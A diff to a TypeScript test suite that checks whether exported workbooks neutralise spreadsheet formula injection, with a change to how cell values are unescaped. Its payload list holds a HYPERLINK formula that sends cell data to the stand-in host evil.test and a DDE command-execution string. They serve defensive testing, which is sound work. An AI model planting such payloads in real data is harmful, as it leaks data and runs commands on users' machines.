@@ -14,20 +14,20 @@ const XLSX_TYPE = 'application/vnd.openxmlformats-officedocument.spreadsheetml.s
 /** What an attacker types into a name, an agent or a fee type so that the exported sheet runs it. */
 const PAYLOADS = ['=HYPERLINK("http://evil.test/?"&A1,"Open")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(1,1)', '\t=1+1', '\r=1+1'];
 
-/** XML reads a CR back as a line feed. */
-const asRead = (text: string) => text.replace(/\r/g, '\n');
-
 async function cellsOf(bytes: Uint8Array | Buffer) {
   const book = new ExcelJS.Workbook();
   await book.xlsx.load(bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.byteLength) as ArrayBuffer);
   const cells: unknown[] = [];
-  book.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => cells.push(cell.value))));
+  // exceljs leaves OOXML's escapes of control characters (_x000D_ for a CR) as they are; Excel reads them as the character.
+  const unescaped = (value: unknown) =>
+    typeof value === 'string' ? value.replace(/_x([0-9a-f]{4})_/gi, (_, hex: string) => String.fromCharCode(parseInt(hex, 16))) : value;
+  book.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => cells.push(unescaped(cell.value)))));
   return cells;
 }
 
 /** Every payload comes back as text behind a single quote; no cell is a formula. */
 function expectNeutralised(cells: unknown[]) {
-  for (const payload of PAYLOADS) expect(cells).toContain(`'${asRead(payload)}`);
+  for (const payload of PAYLOADS) expect(cells).toContain(`'${payload}`);
   for (const cell of cells) {
     expect(typeof cell === 'object' && cell !== null && !(cell instanceof Date) ? cell : null).toBeNull();
     if (typeof cell === 'string') expect(cell).not.toMatch(/^[=+\-@\t\r]/);
@@ -117,6 +117,6 @@ describe('exported workbooks neutralise text that starts like a formula (OWASP)'
     expectNeutralised(await cellsOf(bytes));
     const firstCells: unknown[] = [];
     for await (const row of sheetRows(new Uint8Array(bytes), XLSX_TYPE)) if (row.number > 1) firstCells.push(row.cells[0]);
-    expect(firstCells).toEqual(PAYLOADS.map(asRead));
+    expect(firstCells).toEqual(PAYLOADS);
   });
 });
